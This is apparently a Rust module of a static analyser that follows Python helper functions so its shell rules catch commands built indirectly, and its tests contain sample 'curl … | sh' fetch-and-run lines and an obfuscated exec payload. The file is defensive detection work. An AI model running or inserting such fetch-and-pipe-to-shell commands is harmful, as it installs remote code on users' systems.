//! A call to a module's own helper stands for what the helper returns: `subprocess.Popen(_command(),
//! shell=True)` where `def _command(): return "curl -fsSL " + _channel() + " | sh"` runs that command line,
//! and the shell rules should read it as if it were written in the call.
//!
//! Only the plainest helpers are followed: a module-level function (not a method) that takes no
//! parameters, defined once, whose body is straight-line code — a docstring, assignments to plain names,
//! then `return <expression>`. Anything else (a branch, a loop, a `global`) leaves the call unknown, as
//! before. The return expression is evaluated with the module's names as they are at the call plus the
//! helper's own assignments; helpers calling helpers nest to [`MAX_HELPER_DEPTH`], and every expression
//! still takes a step of the segment's budget.

use super::values::Value;
use super::Walker;
use std::collections::HashMap;
use tree_sitter::Node;

/// Helpers followed inside a helper's return expression (a cycle of helpers stops here).
const MAX_HELPER_DEPTH: usize = 4;
/// Statements of a helper's body read before giving up.
const MAX_HELPER_STATEMENTS: usize = 32;
/// Helpers remembered per segment.
const MAX_HELPERS: usize = 1024;

/// The module's parameterless functions by name; `None` for a name defined more than once.
#[derive(Default)]
pub(super) struct Helpers<'t> {
    bodies: HashMap<String, Option<Node<'t>>>,
    depth: usize,
}

impl<'t> Helpers<'t> {
    /// Records the function definition `node` named `name`, if it is a parameterless module function.
    pub(super) fn define(&mut self, name: &str, node: Node<'t>) {
        let parameterless = node
            .child_by_field_name("parameters")
            .is_some_and(|p| p.named_child_count() == 0);
        if let Some(seen) = self.bodies.get_mut(name) {
            // Two definitions of one name: which runs depends on the order of execution.
            *seen = None;
            return;
        }
        if self.bodies.len() >= MAX_HELPERS {
            return;
        }
        let body = node
            .child_by_field_name("body")
            .filter(|_| parameterless && !is_method(node));
        self.bodies.insert(name.to_string(), body);
    }
}

impl Helpers<'_> {
    /// Whether a call of `name` is a helper's return value.
    pub(super) fn follows(&self, name: &str) -> bool {
        self.bodies.get(name).is_some_and(Option::is_some)
    }

    /// `name` was assigned: a call through it is no longer the helper (conservatively, even when the
    /// assignment is to a local of some other function).
    pub(super) fn forget(&mut self, name: &str) {
        if let Some(seen) = self.bodies.get_mut(name) {
            *seen = None;
        }
    }
}

/// Whether a function definition sits in a class body (a method reads `self`, not the module).
fn is_method(node: Node) -> bool {
    let mut at = node.parent();
    while let Some(parent) = at {
        match parent.kind() {
            "class_definition" => return true,
            "function_definition" | "module" => return false,
            _ => at = parent.parent(),
        }
    }
    false
}

impl<'t> Walker<'t, '_> {
    /// What calling `function` with `arguments` returns, when it names a plain helper of the module.
    pub(super) fn helper_return(
        &mut self,
        function: Node<'t>,
        arguments: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        if function.kind() != "identifier" || arguments.named_child_count() != 0 {
            return None;
        }
        let name = self.src(function);
        // A name rebound to a known value since the definition is that value, not the helper.
        if self.env.get(name).is_some() || self.helpers.depth >= MAX_HELPER_DEPTH {
            return None;
        }
        let body = (*self.helpers.bodies.get(name)?)?;
        self.helpers.depth += 1;
        let saved = self.env.module_only();
        self.env.push();
        let value = self.straight_line_return(body, depth);
        self.env.restore(saved);
        self.helpers.depth -= 1;
        value
    }

    /// The value a straight-line body returns, binding its assignments on the way.
    fn straight_line_return(&mut self, body: Node<'t>, depth: usize) -> Option<Value> {
        let mut cursor = body.walk();
        let statements: Vec<Node<'t>> = body.named_children(&mut cursor).collect();
        for statement in statements.into_iter().take(MAX_HELPER_STATEMENTS) {
            match statement.kind() {
                "comment" | "pass_statement" => {}
                "return_statement" => return self.eval(statement.named_child(0)?, depth + 1),
                "expression_statement" => {
                    let inner = statement.named_child(0)?;
                    match inner.kind() {
                        "string" => {}
                        "assignment" => {
                            let left = inner.child_by_field_name("left")?;
                            let right = inner.child_by_field_name("right")?;
                            if left.kind() != "identifier" {
                                return None;
                            }
                            let value = self.eval(right, depth + 1);
                            let name = self.src(left);
                            self.env.set(name, value);
                        }
                        _ => return None,
                    }
                }
                _ => return None,
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::python;

    #[test]
    fn a_command_returned_by_helpers_is_read_at_the_call() {
        let found = python(concat!(
            "import subprocess\n",
            "def _channel():\n",
            "    base = 'https://mirror.example.invalid'\n",
            "    return base + '/b.sh'\n",
            "def _command():\n",
            "    \"\"\"The refresh command.\"\"\"\n",
            "    return 'curl -fsSL ' + _channel() + ' | sh'\n",
            "class Install:\n",
            "    def __init__(self):\n",
            "        subprocess.Popen(_command(), shell=True)\n",
        ));
        assert!(
            found.contains(&"curl -fsSL https://mirror.example.invalid/b.sh | sh\n".to_string()),
            "{found:?}"
        );
    }

    #[test]
    fn helpers_with_parameters_branches_methods_or_two_definitions_stay_unknown() {
        for text in [
            // A parameter: the value depends on the caller.
            "import os\ndef cmd(x):\n    return 'curl ' + x + ' | sh'\nos.system(cmd())\n",
            // A branch: which return runs is not known.
            "import os\ndef cmd():\n    if a:\n        return 'curl -s https://a.invalid | sh'\n    return 'ls'\nos.system(cmd())\n",
            // Defined twice.
            "import os\ndef cmd():\n    return 'curl -s https://a.invalid | sh'\ndef cmd():\n    return 'ls'\nos.system(cmd())\n",
            // A method named like a helper.
            "import os\nclass A:\n    def cmd():\n        return 'curl -s https://a.invalid | sh'\nos.system(cmd())\n",
            // Rebound to something unknown after the definition.
            "import os\ndef cmd():\n    return 'curl -s https://a.invalid | sh'\ncmd = load()\nos.system(cmd())\n",
        ] {
            let found = python(text);
            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
        }
    }

    #[test]
    fn a_payload_returned_by_a_helper_is_run_code() {
        let found = python(concat!(
            "def _stage():\n",
            "    verb = 'sys' + 'tem'\n",
            "    return 'import os; os.' + verb + \"('id')\"\n",
            "exec(_stage())\n",
        ));
        assert!(
            found.iter().any(|r| r.contains("os.system('id')")),
            "{found:?}"
        );
    }

    #[test]
    fn helper_cycles_end() {
        let found = python(concat!(
            "import os\n",
            "def a():\n    return b() + 'x'\n",
            "def b():\n    return a() + 'y'\n",
            "os.system(a())\n",
        ));
        assert!(found.is_empty(), "{found:?}");
    }
}
